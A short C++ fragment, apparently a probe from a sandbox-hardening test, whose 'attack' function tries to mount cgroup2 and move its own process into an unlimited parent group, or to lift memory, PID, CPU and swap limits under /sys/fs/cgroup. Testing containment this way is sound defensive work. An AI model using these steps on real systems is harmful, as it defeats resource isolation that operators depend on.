// Out of the group that counts, into one without limits.
namespace {
bool attack(const std::string&) {
  const std::string me = std::to_string(::getpid());
  ::mkdir("/mnt/groups", 0700);
  for (const char* folder : {"/mnt/groups", "/mnt", "/tmp"}) {
    if (::mount("groups", folder, "cgroup2", 0, nullptr) == 0 &&
        can_write(std::string(folder) + "/../cgroup.procs", me)) {
      return true;
    }
  }
  for (const char* file : {"memory.max", "pids.max", "cpu.max", "memory.swap.max"}) {
    if (can_write(std::string("/sys/fs/cgroup/") + file, "max")) return true;
  }
  return false;
}
}  // namespace
